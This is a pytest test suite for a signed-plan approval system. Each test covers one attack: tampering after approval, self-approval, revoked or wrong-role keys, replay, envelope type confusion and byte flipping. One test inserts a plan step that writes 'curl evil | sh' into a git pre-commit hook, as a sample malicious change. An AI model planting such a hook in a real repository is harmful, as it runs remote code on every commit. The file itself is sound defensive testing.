"""Signed plans and approvals end to end, one test per attack (python-tuf style named cases)."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from writ.engine.core.errors import (
    ApprovalError,
    EnvelopeError,
    InputError,
    PlanExpired,
    SignatureError,
    VerificationError,
)
from writ.plans.approval_result import ApprovalRequirement, IgnoreReason
from writ.plans.canonical import canonical_bytes
from writ.plans.dsse import Envelope, sign
from writ.plans.keys import PrivateKey
from writ.plans.models import Plan, PlanLimits, PlanStep, short_plan_id
from writ.plans.statements import (
    IN_TOTO_PAYLOAD_TYPE,
    PLAN_PAYLOAD_TYPE,
    ApprovalStatement,
    sign_approval,
    sign_plan,
    sign_statement,
)
from writ.plans.trust import Role, TrustedKey, TrustSet
from writ.plans.verify import check_ttl, evaluate_approvals, require_approved, ttl_violation, verify_plan_envelope

NOW = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
DEF = "sha256:" + "ab" * 32
QUORUM_2 = ApprovalRequirement(quorum=2)
OWNERS = ApprovalRequirement(quorum=2, required_groups=("code-owners",))


@dataclass
class World:
    """Principals with role-bound keys: alice plans (and also holds an approver key), bob/carol/dave approve."""

    keys: dict[str, PrivateKey] = field(default_factory=dict)
    trusted: list[TrustedKey] = field(default_factory=list)

    def add(self, name: str, principal: str, role: Role, **window: Any) -> PrivateKey:
        key = self.keys[name] = PrivateKey.generate()
        self.trusted.append(TrustedKey(principal=principal, role=role, public_key=key.public_key, **window))
        return key

    @property
    def trust(self) -> TrustSet:
        return TrustSet.of(self.trusted, groups={"code-owners": ["bob", "carol"], "security": ["carol"]})


@pytest.fixture
def world() -> World:
    w = World()
    w.add("alice", "alice", "planner")
    w.add("alice-approver", "alice", "approver")
    w.add("mallory", "mallory", "planner")
    w.add("exec-bot", "exec-bot", "executor")
    w.add("bob", "bob", "approver")
    w.add("bob-2", "bob", "approver")
    w.add("carol", "carol", "approver")
    w.add("dave", "dave", "approver", revoked_at=NOW - timedelta(hours=1))
    w.add("erin-old", "erin", "approver", not_after=NOW - timedelta(days=1))
    w.add("frank-new", "frank", "approver", not_before=NOW + timedelta(days=1))
    return w


def _steps() -> list[PlanStep]:
    return [
        PlanStep(
            server="fs",
            tool="write_file",
            definition_digest=DEF,
            args={"path": "/repo/README.md", "content": "hello\n"},
        ),
        PlanStep(server="git", tool="git_commit", definition_digest=DEF, args={"message": "Fix README"}),
    ]


def _plan(steps: list[PlanStep] | None = None, planner: str = "alice", **kw: Any) -> Plan:
    return Plan.new(
        title="Fix README",
        rationale="typo",
        planner=planner,
        steps=steps or _steps(),
        ttl=kw.pop("ttl", timedelta(hours=4)),
        now=kw.pop("now", NOW - timedelta(minutes=5)),
        **kw,
    )


def _approve(w: World, plan: Plan, key: str, approver: str | None = None, **kw: Any) -> Envelope:
    return sign_approval(plan.id, w.keys[key], approver=approver or key.split("-")[0], at=NOW, **kw)


def _reasons(result: Any) -> list[tuple[str | None, IgnoreReason]]:
    return [(i.principal, i.reason) for i in result.ignored]


# -- the happy path ----------------------------------------------------------------------------


def test_signed_and_approved_plan(world: World):
    plan = _plan()
    envelope = sign_plan(plan, world.keys["alice"])
    assert verify_plan_envelope(Envelope.from_json(envelope.to_json()), world.trust, now=NOW) == plan
    approvals = [
        _approve(world, plan, "bob", comment="fine"),
        _approve(world, plan, "carol").to_json(),
    ]
    result = require_approved(plan, approvals, world.trust, now=NOW, requirement=OWNERS)
    assert result.approved and result.approvers == ("bob", "carol") and result.missing == ()
    assert result.ignored == () and result.approvals[0].comment == "fine"


# -- changed after approval: a new digest, so old approvals never carry over -------------------


def _approved_then_resigned(w: World, changed: Plan, original: Plan) -> None:
    approvals = [_approve(w, original, "bob"), _approve(w, original, "carol")]
    require_approved(original, approvals, w.trust, now=NOW, requirement=OWNERS)  # the original is approved
    # the planner signs the changed plan: its signature is fine, its approvals are not
    assert verify_plan_envelope(sign_plan(changed, w.keys["alice"]), w.trust, now=NOW) == changed
    with pytest.raises(ApprovalError, match=r"has 0/2 approvals; missing: code-owners, 1 more approval"):
        require_approved(changed, approvals, w.trust, now=NOW, requirement=OWNERS)
    result = evaluate_approvals(changed, approvals, w.trust, now=NOW, requirement=OWNERS)
    assert _reasons(result) == [
        ("bob", IgnoreReason.WRONG_PLAN),
        ("carol", IgnoreReason.WRONG_PLAN),
    ]


def _tamper_payload(w: World, original: Plan, changed: Plan) -> None:
    """Without the planner's key: swap the payload under the original signature."""
    envelope = sign_plan(original, w.keys["alice"])
    forged = envelope.model_copy(update={"payload": changed.canonical_bytes()})
    with pytest.raises(SignatureError, match="does not verify under any trusted planner key"):
        verify_plan_envelope(forged, w.trust, now=NOW)


def test_plan_step_args_changed_after_approval(world: World):
    original = _plan()
    raw = original.canonical_bytes()
    changed_raw = raw.replace(b'"content":"hello\\n"', b'"content":"hellp\\n"')  # one argument byte
    assert len(changed_raw) == len(raw) and changed_raw != raw
    changed = Plan.from_payload(changed_raw)
    _approved_then_resigned(world, changed, original)
    _tamper_payload(world, original, changed)


def test_plan_steps_reordered_after_approval(world: World):
    original = _plan()
    changed = original.model_copy(update={"steps": tuple(reversed(original.steps))})
    assert changed.id != original.id
    _approved_then_resigned(world, changed, original)
    _tamper_payload(world, original, changed)


def test_plan_step_added_after_approval(world: World):
    original = _plan()
    extra = PlanStep(
        server="fs",
        tool="write_file",
        definition_digest=DEF,
        args={"path": "/repo/.git/hooks/pre-commit", "content": "curl evil | sh"},
    )
    changed = original.model_copy(update={"steps": (*original.steps, extra)})
    _approved_then_resigned(world, changed, original)
    _tamper_payload(world, original, changed)


def test_plan_unordered_after_approval(world: World):
    original = _plan()
    _approved_then_resigned(world, original.model_copy(update={"ordered": False}), original)


def test_plan_expiry_extended_after_approval(world: World):
    original = _plan()
    changed = original.model_copy(update={"expires_at": original.expires_at + timedelta(days=30)})
    _approved_then_resigned(world, changed, original)


# -- who may approve ---------------------------------------------------------------------------


def test_approval_by_plan_author(world: World):
    plan = _plan()
    approvals = [_approve(world, plan, "alice-approver"), _approve(world, plan, "bob")]
    result = evaluate_approvals(plan, approvals, world.trust, now=NOW, requirement=QUORUM_2)
    assert result.approvers == ("bob",)
    assert _reasons(result) == [("alice", IgnoreReason.SELF_APPROVAL)]
    with pytest.raises(
        ApprovalError,
        match=r"has 1/2 approvals; missing: 1 more approval; ignored: alice "
        r"\(self_approval\)",
    ):
        require_approved(plan, approvals, world.trust, now=NOW, requirement=QUORUM_2)


def test_two_approvals_by_one_approver_under_two_key_ids(world: World):
    plan = _plan()
    approvals = [_approve(world, plan, "bob"), _approve(world, plan, "bob-2", approver="bob")]
    assert approvals[0].signatures[0].keyid != approvals[1].signatures[0].keyid
    result = evaluate_approvals(plan, approvals, world.trust, now=NOW, requirement=QUORUM_2)
    assert result.approvers == ("bob",) and not result.approved
    assert _reasons(result) == [("bob", IgnoreReason.DUPLICATE_APPROVER)]


def test_same_approval_submitted_twice(world: World):
    plan = _plan()
    approval = _approve(world, plan, "bob")
    result = evaluate_approvals(plan, [approval, approval], world.trust, now=NOW, requirement=QUORUM_2)
    assert result.approvers == ("bob",) and _reasons(result) == [("bob", IgnoreReason.DUPLICATE_APPROVER)]


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ("dave", "was revoked at 2026-11-22T09:00:00Z"),
        ("erin-old", "was expired at 2026-11-21T10:00:00Z"),
        ("frank-new", "was not valid before 2026-11-23T10:00:00Z"),
    ],
)
def test_approval_with_revoked_key(world: World, key: str, why: str):
    """Also expired and not-yet-valid keys: all are key_invalid at `now`."""
    plan = _plan()
    result = evaluate_approvals(
        plan,
        [_approve(world, plan, key), _approve(world, plan, "bob")],
        world.trust,
        now=NOW,
        requirement=QUORUM_2,
    )
    assert result.approvers == ("bob",)
    [ignored] = result.ignored
    assert ignored.reason == IgnoreReason.KEY_INVALID and why in ignored.detail


def test_approval_naming_another_approver(world: World):
    """bob signs a statement that says carol approved: the key decides who approved, and it is not carol."""
    plan = _plan()
    result = evaluate_approvals(
        plan,
        [_approve(world, plan, "bob", approver="carol")],
        world.trust,
        now=NOW,
        requirement=OWNERS,
    )
    assert result.approvers == () and _reasons(result) == [("bob", IgnoreReason.FOREIGN_KEY)]
    assert "names approver 'carol' but is signed by key" in result.ignored[0].detail
    assert result.missing_groups == ("code-owners",)


def test_executor_key_used_as_approver_key(world: World):
    plan = _plan()
    approval = sign_approval(plan.id, world.keys["exec-bot"], approver="exec-bot", at=NOW)
    result = evaluate_approvals(plan, [approval], world.trust, now=NOW, requirement=QUORUM_2)
    assert _reasons(result) == [("exec-bot", IgnoreReason.NOT_AN_APPROVER)]
    assert "(an executor key), expected a key of an approver" in result.ignored[0].detail


def test_planner_key_used_as_approver_key(world: World):
    """mallory plans, but has no approver key: her planner key cannot approve alice's plan."""
    plan = _plan()
    approval = sign_approval(plan.id, world.keys["mallory"], approver="mallory", at=NOW)
    result = evaluate_approvals(plan, [approval], world.trust, now=NOW, requirement=QUORUM_2)
    assert _reasons(result) == [("mallory", IgnoreReason.NOT_AN_APPROVER)]


def test_plan_author_approving_with_the_planner_key(world: World):
    """Self approval takes precedence over the wrong role, as in the policy."""
    plan = _plan()
    approval = sign_approval(plan.id, world.keys["alice"], approver="alice", at=NOW)
    result = evaluate_approvals(plan, [approval], world.trust, now=NOW, requirement=QUORUM_2)
    assert _reasons(result) == [("alice", IgnoreReason.SELF_APPROVAL)]


def test_approval_by_untrusted_key(world: World):
    plan = _plan()
    approval = sign_approval(plan.id, PrivateKey.generate(), approver="bob", at=NOW)
    result = evaluate_approvals(plan, [approval], world.trust, now=NOW, requirement=QUORUM_2)
    assert _reasons(result) == [(None, IgnoreReason.BAD_SIGNATURE)]


def test_approval_with_key_id_of_a_trusted_approver_but_signed_by_another_key(world: World):
    plan = _plan()
    forged = sign_approval(plan.id, PrivateKey.generate(), approver="carol", at=NOW)
    sig = forged.signatures[0].model_copy(update={"keyid": world.keys["carol"].key_id})
    result = evaluate_approvals(
        plan,
        [forged.model_copy(update={"signatures": (sig,)})],
        world.trust,
        now=NOW,
        requirement=QUORUM_2,
    )
    assert _reasons(result) == [(None, IgnoreReason.BAD_SIGNATURE)]


def test_approval_with_a_wrong_key_id_hint_still_names_the_real_signer(world: World):
    """The key id is a hint: a wrong one neither helps nor hurts, and the result records the real key."""
    plan = _plan()
    approval = _approve(world, plan, "carol")
    sig = approval.signatures[0].model_copy(update={"keyid": world.keys["bob"].key_id})
    result = evaluate_approvals(
        plan,
        [approval.model_copy(update={"signatures": (sig,)})],
        world.trust,
        now=NOW,
        requirement=ApprovalRequirement(quorum=1),
    )
    assert result.approvers == ("carol",) and result.approvals[0].key_id == world.keys["carol"].key_id


def test_approver_not_in_a_required_group(world: World):
    """As in data.writ.approval: once groups are required, only their members count."""
    plan = _plan()
    requirement = ApprovalRequirement(quorum=1, required_groups=("security",))
    result = evaluate_approvals(
        plan,
        [_approve(world, plan, "bob"), _approve(world, plan, "carol")],
        world.trust,
        now=NOW,
        requirement=requirement,
    )
    assert result.approved and result.approvers == ("carol",)
    assert _reasons(result) == [("bob", IgnoreReason.NOT_IN_REQUIRED_GROUP)]
    assert "in none of the required groups ['security']" in result.ignored[0].detail


def test_required_group_missing(world: World):
    plan = _plan()
    approvals = [_approve(world, plan, "bob")]
    both = ApprovalRequirement(quorum=2, required_groups=("code-owners", "security"))
    with pytest.raises(
        ApprovalError,
        match=r"^plan sha256:[0-9a-f]{12}\.\. has 1/2 approvals; missing: security$",
    ):
        require_approved(plan, approvals, world.trust, now=NOW, requirement=both)
    # quorum met but a group is not: still not approved
    one = ApprovalRequirement(quorum=1, required_groups=("code-owners", "security"))
    result = evaluate_approvals(plan, approvals, world.trust, now=NOW, requirement=one)
    assert not result.approved and result.missing == ("security",) and result.missing_approvals == 0


def test_requirement_has_the_shape_of_the_policy_requirement():
    rego = {"quorum": 2, "required_groups": ["code-owners"], "max_ttl_seconds": 86400, "no_self_approval": True}
    assert ApprovalRequirement.model_validate(rego).required_groups == ("code-owners",)
    with pytest.raises(ValueError, match="no_self_approval"):
        ApprovalRequirement.model_validate({**rego, "no_self_approval": False})


def test_plan_valid_for_longer_than_the_policy_allows(world: World):
    plan = _plan(ttl=timedelta(days=2))
    approvals = [_approve(world, plan, "bob"), _approve(world, plan, "carol")]
    requirement = ApprovalRequirement(quorum=2, max_ttl_seconds=86400)
    with pytest.raises(ApprovalError, match="stays valid for 172800 seconds, longer than the allowed 86400") as e:
        require_approved(plan, approvals, world.trust, now=NOW, requirement=requirement)
    assert e.value.code == "plan_ttl_too_long"


def test_one_ttl_rule_for_the_verifier_and_the_store(world: World):
    """``check_ttl`` (the store's submit) and ``evaluate_approvals`` say the same thing, from one function."""
    plan = _plan(ttl=timedelta(days=2))
    requirement = ApprovalRequirement(quorum=1, max_ttl_seconds=86400)
    violation = ttl_violation(plan, requirement)
    assert violation == (
        "stays valid for 172800 seconds, longer than the allowed 86400: sign it again with an earlier expires_at"
    )
    assert evaluate_approvals(plan, [], world.trust, now=NOW, requirement=requirement).violations == (violation,)
    with pytest.raises(ApprovalError) as e:
        check_ttl(plan, requirement)
    assert (e.value.code, e.value.message) == ("plan_ttl_too_long", f"plan {short_plan_id(plan.id)} {violation}")
    at_the_limit = _plan(ttl=timedelta(days=1))
    assert ttl_violation(at_the_limit, requirement) is None and ttl_violation(plan, ApprovalRequirement(quorum=1)) is None
    check_ttl(at_the_limit, requirement)


# -- rejections --------------------------------------------------------------------------------


def test_a_rejection_blocks(world: World):
    plan = _plan()
    approvals = [
        _approve(world, plan, "bob"),
        _approve(world, plan, "carol", decision="reject", comment="too broad"),
    ]
    with pytest.raises(ApprovalError, match=r"was rejected by carol \(too broad\)") as e:
        require_approved(plan, approvals, world.trust, now=NOW, requirement=ApprovalRequirement(quorum=1))
    assert e.value.code == "plan_rejected"


def test_first_decision_of_an_approver_counts(world: World):
    """As in data.writ.approval (and the workflow's update validator): a second decision is a duplicate."""
    plan = _plan()
    approve = _approve(world, plan, "bob")
    reject = _approve(world, plan, "bob-2", approver="bob", decision="reject")
    one = ApprovalRequirement(quorum=1)
    result = evaluate_approvals(plan, [approve, reject], world.trust, now=NOW, requirement=one)
    assert result.approved and _reasons(result) == [("bob", IgnoreReason.DUPLICATE_APPROVER)]
    result = evaluate_approvals(plan, [reject, approve], world.trust, now=NOW, requirement=one)
    assert result.rejected and not result.approved and result.approvers == ()


def test_rejection_by_an_ineligible_principal_is_ignored(world: World):
    plan = _plan()
    approvals = [
        _approve(world, plan, "alice-approver", decision="reject"),
        _approve(world, plan, "bob"),
    ]
    result = evaluate_approvals(plan, approvals, world.trust, now=NOW, requirement=ApprovalRequirement(quorum=1))
    assert result.approved and _reasons(result) == [("alice", IgnoreReason.SELF_APPROVAL)]


# -- time --------------------------------------------------------------------------------------


def test_expired_plan(world: World):
    plan = _plan(ttl=timedelta(hours=1))
    approvals = [_approve(world, plan, "bob"), _approve(world, plan, "carol")]
    assert require_approved(plan, approvals, world.trust, now=NOW, requirement=OWNERS).approved
    later = plan.expires_at
    with pytest.raises(PlanExpired, match=r"plan sha256:[0-9a-f]{12}\.\. expired at 2026-11-22T10:55:00Z") as e:
        require_approved(plan, approvals, world.trust, now=later, requirement=OWNERS)
    assert e.value.code == "plan_expired"
    assert evaluate_approvals(plan, approvals, world.trust, now=later, requirement=OWNERS).expired


def test_now_must_be_timezone_aware(world: World):
    plan = _plan()
    with pytest.raises(InputError, match="timezone-aware"):
        evaluate_approvals(plan, [], world.trust, now=datetime(2026, 11, 22), requirement=QUORUM_2)


# -- who may plan ------------------------------------------------------------------------------


def test_executor_key_used_as_planner_key(world: World):
    plan = _plan(planner="exec-bot")
    with pytest.raises(
        SignatureError,
        match=r"plan signed by key [0-9a-f]{12} of principal 'exec-bot' "
        r"\(an executor key\), expected a key of a planner",
    ):
        verify_plan_envelope(sign_plan(plan, world.keys["exec-bot"]), world.trust, now=NOW)


def test_approver_key_used_as_planner_key(world: World):
    with pytest.raises(SignatureError, match=r"principal 'bob' \(an approver key\), expected a key of a planner"):
        verify_plan_envelope(sign_plan(_plan(planner="bob"), world.keys["bob"]), world.trust, now=NOW)


def test_plan_naming_another_planner(world: World):
    """mallory is a planner too, but signs a plan that says alice wrote it (so that mallory could approve it)."""
    with pytest.raises(
        SignatureError,
        match="plan names planner 'alice' but is signed by key .* of principal 'mallory'",
    ):
        verify_plan_envelope(sign_plan(_plan(planner="alice"), world.keys["mallory"]), world.trust, now=NOW)


def test_plan_signed_with_revoked_planner_key(world: World):
    old = world.add("alice-old", "alice", "planner", revoked_at=NOW - timedelta(days=1))
    with pytest.raises(SignatureError, match="which was revoked at 2026-11-21T10:00:00Z") as e:
        verify_plan_envelope(sign_plan(_plan(), old), world.trust, now=NOW)
    assert e.value.code == "key_invalid"


def test_plan_by_untrusted_key(world: World):
    with pytest.raises(SignatureError, match="does not verify under any trusted planner key"):
        verify_plan_envelope(sign_plan(_plan(), PrivateKey.generate()), world.trust, now=NOW)


def test_unsigned_envelope(world: World):
    plan = _plan()
    with pytest.raises(SignatureError, match="plan envelope has no signatures"):
        verify_plan_envelope(Envelope.create(PLAN_PAYLOAD_TYPE, plan.canonical_bytes()), world.trust, now=NOW)
    with pytest.raises(EnvelopeError, match="no 'signatures' field"):  # an envelope without the field
        verify_plan_envelope(
            b'{"payload":"e30=","payloadType":"application/vnd.writ.plan+json"}',
            world.trust,
            now=NOW,
        )
    with pytest.raises(EnvelopeError, match="no 'payload', 'payloadType', 'signatures' field"):  # a bare plan
        verify_plan_envelope(plan.canonical_bytes(), world.trust, now=NOW)


def test_empty_signature_envelope(world: World):
    plan = _plan()
    empty = sign_plan(plan, world.keys["alice"]).to_dict()
    empty["signatures"] = []
    with pytest.raises(SignatureError, match="plan envelope has no signatures"):
        verify_plan_envelope(canonical_bytes(empty), world.trust, now=NOW)
    # and an approval envelope without signatures counts for nothing
    approval = _approve(world, plan, "bob").model_copy(update={"signatures": ()})
    result = evaluate_approvals(plan, [approval], world.trust, now=NOW, requirement=ApprovalRequirement(quorum=1))
    assert not result.approved and _reasons(result) == [(None, IgnoreReason.MALFORMED)]


def test_no_approvals_is_not_approved(world: World):
    """An empty 'all of' is an error, not an allow: quorum 0 cannot even be stated."""
    plan = _plan()
    with pytest.raises(ApprovalError, match="has 0/1 approvals; missing: 1 more approval"):
        require_approved(plan, [], world.trust, now=NOW, requirement=ApprovalRequirement(quorum=1))
    with pytest.raises(ValueError, match="greater than or equal to 1"):
        ApprovalRequirement(quorum=0)


def test_no_planner_keys_in_the_trust_set(world: World):
    with pytest.raises(SignatureError):
        verify_plan_envelope(sign_plan(_plan(), world.keys["alice"]), TrustSet(), now=NOW)


# -- replay and type confusion -----------------------------------------------------------------


def test_approval_replayed_onto_another_plan(world: World):
    first, second = _plan(), _plan()  # same content, fresh nonce: distinct plans
    assert first.id != second.id
    approvals = [_approve(world, first, "bob"), _approve(world, first, "carol")]
    require_approved(first, approvals, world.trust, now=NOW, requirement=OWNERS)
    result = evaluate_approvals(second, approvals, world.trust, now=NOW, requirement=OWNERS)
    assert not result.approved
    assert _reasons(result) == [
        ("bob", IgnoreReason.WRONG_PLAN),
        ("carol", IgnoreReason.WRONG_PLAN),
    ]
    assert f"is about plan {first.id[:19]}.., not {second.id[:19]}.." in result.ignored[0].detail


def test_plan_envelope_presented_as_approval(world: World):
    plan = _plan()
    result = evaluate_approvals(
        plan,
        [sign_plan(plan, world.keys["bob"])],
        world.trust,
        now=NOW,
        requirement=ApprovalRequirement(quorum=1),
    )
    assert _reasons(result) == [(None, IgnoreReason.MALFORMED)]
    assert "payload type 'application/vnd.writ.plan+json'" in result.ignored[0].detail


def test_approval_envelope_presented_as_plan(world: World):
    plan = _plan()
    statement = ApprovalStatement.for_plan(plan.id, approver="alice", decision="approve", at=NOW)
    confused = sign_statement(statement, world.keys["alice"])  # signed by alice's planner key
    with pytest.raises(VerificationError, match="payload type is 'application/vnd.in-toto\\+json'"):
        verify_plan_envelope(confused, world.trust, now=NOW)


def test_statement_relabelled_as_plan_type_breaks_the_signature(world: World):
    plan = _plan()
    env = sign_plan(plan, world.keys["alice"]).model_copy(update={"payload_type": IN_TOTO_PAYLOAD_TYPE})
    with pytest.raises(SignatureError):
        verify_plan_envelope(env, world.trust, now=NOW)


def test_approval_with_two_signatures_is_malformed(world: World):
    plan = _plan()
    two = sign(_approve(world, plan, "bob"), world.keys["carol"])
    result = evaluate_approvals(plan, [two], world.trust, now=NOW, requirement=ApprovalRequirement(quorum=2))
    assert result.approvers == () and "exactly one signature, this has 2" in result.ignored[0].detail


@pytest.mark.parametrize(
    ("statement", "match"),
    [
        ({"_type": "https://in-toto.io/Statement/v0.1"}, "_type"),
        ({"predicateType": "https://slsa.dev/provenance/v1"}, "predicateType"),
        ({"subject": []}, "subject"),
        ({"subject": [{"name": "plan", "digest": {"sha256": "ab" * 32}}] * 2}, "subject"),
        ({"subject": [{"name": "plan", "digest": {"sha512": "ab" * 64}}]}, "digest"),
        (
            {
                "predicate": {
                    "decision": "maybe",
                    "approver": "bob",
                    "comment": "",
                    "at": "2026-11-22T10:00:00Z",
                }
            },
            "decision",
        ),
    ],
)
def test_malformed_statements_are_ignored(world: World, statement: dict[str, Any], match: str):
    plan = _plan()
    good = ApprovalStatement.for_plan(plan.id, approver="bob", decision="approve", at=NOW).model_dump(mode="json")
    payload = canonical_bytes({**good, **statement})
    env = sign(Envelope.create(IN_TOTO_PAYLOAD_TYPE, payload), world.keys["bob"])
    result = evaluate_approvals(plan, [env], world.trust, now=NOW, requirement=ApprovalRequirement(quorum=1))
    assert _reasons(result) == [("bob", IgnoreReason.MALFORMED)] and match in result.ignored[0].detail


def test_garbage_approval_bytes_are_ignored_not_fatal(world: World):
    plan = _plan()
    result = evaluate_approvals(
        plan,
        [b"\xff", b"{}", _approve(world, plan, "bob").to_json()],
        world.trust,
        now=NOW,
        requirement=ApprovalRequirement(quorum=1),
    )
    assert result.approved and [i.reason for i in result.ignored] == [IgnoreReason.MALFORMED] * 2


def test_approvals_beyond_the_limit_are_not_even_checked(world: World):
    plan = _plan()
    approvals = [_approve(world, plan, "bob"), _approve(world, plan, "carol")]
    result = evaluate_approvals(
        plan,
        approvals,
        world.trust,
        now=NOW,
        requirement=QUORUM_2,
        limits=PlanLimits(max_approvals=1),
    )
    assert not result.approved and _reasons(result) == [(None, IgnoreReason.OVER_LIMIT)]


def test_non_canonical_plan_payload_is_refused(world: World):
    plan = _plan()
    loose = b" " + plan.canonical_bytes()
    env = sign(Envelope.create(PLAN_PAYLOAD_TYPE, loose), world.keys["alice"])
    with pytest.raises(InputError, match="not canonical") as e:
        verify_plan_envelope(env, world.trust, now=NOW)
    assert e.value.code == "plan_not_canonical"


def test_oversized_plan_is_refused_before_any_signature_check(world: World):
    env = Envelope.create(PLAN_PAYLOAD_TYPE, b"x" * 101)
    with pytest.raises(InputError, match="101 bytes, the limit is 100"):
        verify_plan_envelope(env, world.trust, now=NOW, limits=PlanLimits(max_plan_bytes=100))


# -- any change to a signed plan fails (hypothesis) ---------------------------------------------

_W = World()
_W.add("alice", "alice", "planner")
_W.add("exec-bot", "exec-bot", "executor")
_PLAN = _plan()
_SIGNED = sign_plan(_PLAN, _W.keys["alice"])


@settings(max_examples=200)
@given(st.data())
def test_flipping_any_byte_of_a_signed_plan_fails(data: st.DataObject):
    target = data.draw(st.sampled_from(["payload", "payload_type", "sig"]))
    if target == "payload":
        raw = bytearray(_SIGNED.payload)
        raw[data.draw(st.integers(0, len(raw) - 1))] ^= data.draw(st.integers(1, 255))
        env = _SIGNED.model_copy(update={"payload": bytes(raw)})
    elif target == "payload_type":
        t = bytearray(PLAN_PAYLOAD_TYPE.encode())
        t[data.draw(st.integers(0, len(t) - 1))] ^= data.draw(st.integers(1, 127))
        env = _SIGNED.model_copy(update={"payload_type": t.decode("ascii", "replace")})
    else:
        sig = bytearray(_SIGNED.signatures[0].sig)
        sig[data.draw(st.integers(0, 63))] ^= data.draw(st.integers(1, 255))
        env = _SIGNED.model_copy(update={"signatures": (_SIGNED.signatures[0].model_copy(update={"sig": bytes(sig)}),)})
    with pytest.raises(SignatureError):
        verify_plan_envelope(env, _W.trust, now=NOW)


@given(st.one_of(st.none(), st.text(max_size=70), st.just(_W.keys["exec-bot"].key_id)))
def test_changing_the_plan_key_id_changes_nothing(keyid: str | None):
    """A key id is a hint, never a proof: any key id (even the executor's) still verifies through alice's key."""
    sig = _SIGNED.signatures[0].model_copy(update={"keyid": keyid})
    assert verify_plan_envelope(_SIGNED.model_copy(update={"signatures": (sig,)}), _W.trust, now=NOW) == _PLAN
